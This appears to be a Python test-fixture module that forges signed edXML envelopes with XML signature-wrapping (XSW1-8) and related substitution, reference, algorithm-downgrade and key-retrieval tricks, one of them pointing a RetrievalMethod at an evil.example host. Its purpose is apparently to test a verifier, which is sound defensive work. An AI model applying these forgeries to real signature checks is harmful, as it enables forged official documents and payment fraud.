"""Signature-wrapping and substitution attacks on a signed envelope.

Each takes the tree of a genuine signed envelope and leaves a forged one. The XSW
numbers follow the published family (elements moved, evil twins beside, around or
below the signature), adapted to an envelope whose signature stands in its header.
"""

from collections.abc import Callable, Mapping
from copy import deepcopy

from lxml import etree

from schemas.xml import DS, QCVN, XADES, Element, parse, qualified

Attack = Callable[[Element], Element]

_SIGNATURE = qualified(DS, "Signature")
_INCLUSIVE = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
_HMAC = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
_XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"


def _ds(name: str) -> str:
    return qualified(DS, name)


def _q(name: str) -> str:
    return qualified(QCVN, name)


def first(root: Element, tag: str) -> Element:
    """Return the first element with `tag`."""
    return next(root.iter(tag))


def _signature(root: Element) -> Element:
    return first(root, _SIGNATURE)


def _envelope(root: Element) -> Element:
    return first(root, _q("edXMLEnvelope"))


def _evil(root: Element, *, identifier: str | None = "evil-1") -> Element:
    """Return a forged envelope without signature, like the genuine one."""
    evil = deepcopy(_envelope(root))
    signature = _signature(evil)
    _remove(signature)
    first(evil, _q("Subject")).text = "Chuyển tiền ngay"
    if identifier:
        evil.set("Id", identifier)
    else:
        del evil.attrib["Id"]
    return evil


def _remove(element: Element) -> Element:
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)
    return element


def _header(envelope: Element) -> Element:
    return first(envelope, _q("edXMLHeader"))


def _algorithm(tag: str, uri: str) -> Attack:
    def attack(root: Element) -> Element:
        first(_signature(root), _ds(tag)).set("Algorithm", uri)
        return root

    return attack


def xsw1_genuine_inside_signature_of_evil(root: Element) -> Element:
    """Evil envelope in place; the signature holds the genuine one in its Object."""
    evil, genuine = _evil(root), _envelope(root)
    signature = _remove(_signature(root))
    root.replace(genuine, evil)
    etree.SubElement(signature, _ds("Object")).append(genuine)
    _header(evil).append(signature)
    return root


def xsw2_genuine_beside_evil_header(root: Element) -> Element:
    """The signature is detached: genuine content and signature are siblings."""
    evil, genuine = _evil(root), _envelope(root)
    signature = _remove(_signature(root))
    root.replace(genuine, evil)
    _header(evil).append(signature)
    _header(evil).append(genuine)
    return root


def xsw3_evil_before_genuine(root: Element) -> Element:
    """An evil twin is the first child of the root."""
    root.insert(0, _evil(root))
    return root


def xsw4_genuine_inside_evil(root: Element) -> Element:
    """The evil envelope contains the genuine signed one."""
    evil, genuine = _evil(root), _envelope(root)
    root.replace(genuine, evil)
    evil.append(genuine)
    return root


def xsw5_evil_with_the_genuine_id(root: Element) -> Element:
    """The evil twin takes the genuine Id; the genuine one follows it."""
    root.insert(0, _evil(root, identifier="envelope-1"))
    return root


def xsw6_genuine_inside_evils_signature_as_twin(root: Element) -> Element:
    """As 1, the genuine content below KeyInfo."""
    evil, genuine = _evil(root, identifier="envelope-1"), _envelope(root)
    signature = _remove(_signature(root))
    root.replace(genuine, evil)
    first(signature, _ds("KeyInfo")).append(genuine)
    _header(evil).append(signature)
    return root


def xsw7_evil_inside_extension(root: Element) -> Element:
    """The evil twin hides in a foreign element beside the genuine envelope."""
    etree.SubElement(root, "Extensions").append(_evil(root, identifier="envelope-1"))
    return root


def xsw8_genuine_inside_object_of_moved_signature(root: Element) -> Element:
    """The signature moves to the root and carries the genuine envelope."""
    evil, genuine = _evil(root), _envelope(root)
    signature = _remove(_signature(root))
    root.replace(genuine, evil)
    first(signature, _ds("Object")).append(genuine)
    root.append(signature)
    return root


def evil_after_genuine(root: Element) -> Element:
    root.append(_evil(root))
    return root


def genuine_nested_under_evil_root(root: Element) -> Element:
    outer = deepcopy(root)
    outer.replace(_envelope(outer), _evil(root))
    outer.append(root)
    return outer


def second_header_before_the_signed_one(root: Element) -> Element:
    evil = _header(_evil(root))
    _envelope(root).insert(0, evil)
    return root


def id_repeated_in_another_spelling(root: Element) -> Element:
    etree.SubElement(root, _q("AttachmentEncoded")).set("ID", "envelope-1")
    return root


def xml_id_repeats_the_signed_properties(root: Element) -> Element:
    first(root, _q("Subject")).set(
        "{http://www.w3.org/XML/1998/namespace}id", "signed-properties-1"
    )
    return root


def fake_signed_properties_first(root: Element) -> Element:
    genuine = first(root, qualified(XADES, "SignedProperties"))
    fake = deepcopy(genuine)
    fake.set("Id", "fake-1")
    first(fake, qualified(XADES, "SigningTime")).text = "2030-01-01T00:00:00.000Z"
    genuine.addprevious(fake)
    return root


def fake_qualifying_properties_in_a_second_object(root: Element) -> Element:
    holder = deepcopy(first(root, _ds("Object")))
    first(holder, qualified(XADES, "SignedProperties")).set("Id", "fake-1")
    _signature(root).append(holder)
    return root


def unsigned_properties_added(root: Element) -> Element:
    qualifying = first(root, qualified(XADES, "QualifyingProperties"))
    etree.SubElement(qualifying, qualified(XADES, "UnsignedProperties"))
    return root


def manifest_in_an_object(root: Element) -> Element:
    holder = etree.SubElement(_signature(root), _ds("Object"))
    manifest = etree.SubElement(holder, _ds("Manifest"))
    manifest.append(deepcopy(first(root, _ds("Reference"))))
    return root


def reference_to_everything_added(root: Element) -> Element:
    extra = deepcopy(first(root, _ds("Reference")))
    extra.set("URI", "")
    first(root, _ds("SignedInfo")).append(extra)
    return root


def attachment_reference_missing(root: Element) -> Element:
    (found,) = [
        one
        for one in root.iter(_ds("Reference"))
        if one.get("URI") == "cid:cong-van-214"
    ]
    _remove(found)
    return root


def payload_reference_missing(root: Element) -> Element:
    _remove(first(root, _ds("Reference")))
    return root


def properties_reference_missing(root: Element) -> Element:
    _remove(list(root.iter(_ds("Reference")))[-1])
    return root


def payload_reference_to_the_body_only(root: Element) -> Element:
    first(root, _q("edXMLBody")).set("Id", "body-1")
    first(root, _ds("Reference")).set("URI", "#body-1")
    return root


def xpointer_instead_of_fragment(root: Element) -> Element:
    first(root, _ds("Reference")).set("URI", "#xpointer(id('envelope-1'))")
    return root


def transform_added(root: Element) -> Element:
    transforms = first(root, _ds("Transforms"))
    etree.SubElement(transforms, _ds("Transform")).set("Algorithm", _XSLT)
    return root


def allowed_transform_added_to_an_attachment(root: Element) -> Element:
    reference = list(root.iter(_ds("Reference")))[1]
    reference.insert(0, deepcopy(first(root, _ds("Transforms"))))
    return root


def prefix_list_in_canonicalization(root: Element) -> Element:
    method = first(root, _ds("CanonicalizationMethod"))
    inclusive = qualified("http://www.w3.org/2001/10/xml-exc-c14n#", "Inclusive")
    etree.SubElement(method, f"{inclusive}Namespaces").set("PrefixList", "edXML")
    return root


def hmac_length_added(root: Element) -> Element:
    method = first(root, _ds("SignatureMethod"))
    etree.SubElement(method, _ds("HMACOutputLength")).text = "8"
    return root


def key_value_added(root: Element) -> Element:
    etree.SubElement(first(root, _ds("KeyInfo")), _ds("KeyValue"))
    return root


def retrieval_method_for_the_key(root: Element) -> Element:
    info = first(root, _ds("KeyInfo"))
    for child in list(info):
        info.remove(child)
    etree.SubElement(info, _ds("RetrievalMethod")).set("URI", "http://evil.example/k")
    return root


def namespace_rebound_on_the_subject(root: Element) -> Element:
    subject = first(root, _q("Subject"))
    subject.tag = qualified("urn:evil", "Subject")
    return root


def unsigned_default_namespace_on_content(root: Element) -> Element:
    first(root, _q("Subject")).tag = "Subject"
    return root


def signature_in_the_body(root: Element) -> Element:
    first(root, _q("edXMLBody")).append(_remove(_signature(root)))
    return root


def signature_first_in_the_header(root: Element) -> Element:
    _header(root).insert(0, _remove(_signature(root)))
    return root


def signature_beside_the_envelope(root: Element) -> Element:
    root.append(_remove(_signature(root)))
    return root


def two_signatures(root: Element) -> Element:
    _header(root).append(deepcopy(_signature(root)))
    return root


def signature_inside_a_signature(root: Element) -> Element:
    first(root, _ds("Object")).append(deepcopy(_signature(root)))
    return root


def text_after_the_signature(root: Element) -> Element:
    _signature(root).tail = "thêm"
    return root


def text_between_the_parts_of_the_signature(root: Element) -> Element:
    first(root, _ds("SignatureValue")).tail = "\n"
    return root


def certificates_in_another_order(root: Element) -> Element:
    data = first(root, _ds("X509Data"))
    data.append(data[0])
    return root


def certificate_left_out(root: Element) -> Element:
    data = first(root, _ds("X509Data"))
    data.remove(data[1])
    return root


def certificate_added(root: Element) -> Element:
    data = first(root, _ds("X509Data"))
    data.append(deepcopy(data[1]))
    return root


def attachments_element_twice(root: Element) -> Element:
    for _ in range(2):
        etree.SubElement(root, _q("AttachmentEncoded"))
    return root


def foreign_element_beside_the_envelope(root: Element) -> Element:
    etree.SubElement(root, qualified("urn:evil", "edXMLEnvelope"))
    return root


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        xsw1_genuine_inside_signature_of_evil,
        xsw2_genuine_beside_evil_header,
        xsw3_evil_before_genuine,
        xsw4_genuine_inside_evil,
        xsw5_evil_with_the_genuine_id,
        xsw6_genuine_inside_evils_signature_as_twin,
        xsw7_evil_inside_extension,
        xsw8_genuine_inside_object_of_moved_signature,
        evil_after_genuine,
        genuine_nested_under_evil_root,
        second_header_before_the_signed_one,
        id_repeated_in_another_spelling,
        xml_id_repeats_the_signed_properties,
        fake_signed_properties_first,
        fake_qualifying_properties_in_a_second_object,
        unsigned_properties_added,
        manifest_in_an_object,
        reference_to_everything_added,
        attachment_reference_missing,
        payload_reference_missing,
        properties_reference_missing,
        payload_reference_to_the_body_only,
        xpointer_instead_of_fragment,
        transform_added,
        allowed_transform_added_to_an_attachment,
        prefix_list_in_canonicalization,
        hmac_length_added,
        key_value_added,
        retrieval_method_for_the_key,
        namespace_rebound_on_the_subject,
        unsigned_default_namespace_on_content,
        signature_in_the_body,
        signature_first_in_the_header,
        signature_beside_the_envelope,
        two_signatures,
        signature_inside_a_signature,
        text_after_the_signature,
        text_between_the_parts_of_the_signature,
        certificates_in_another_order,
        certificate_left_out,
        certificate_added,
        attachments_element_twice,
        foreign_element_beside_the_envelope,
    )
} | {
    "canonicalization_inclusive": _algorithm("CanonicalizationMethod", _INCLUSIVE),
    "transform_inclusive": _algorithm("Transform", _INCLUSIVE),
    "signature_method_hmac": _algorithm("SignatureMethod", _HMAC),
    "digest_method_sha1": _algorithm("DigestMethod", _SHA1),
    "signature_method_is_a_digest": _algorithm("SignatureMethod", _SHA1),
}


def attacked(xml: bytes, name: str) -> bytes:
    """Return the forged document as a receiver would get it."""
    return etree.tostring(ATTACKS[name](parse(xml)))
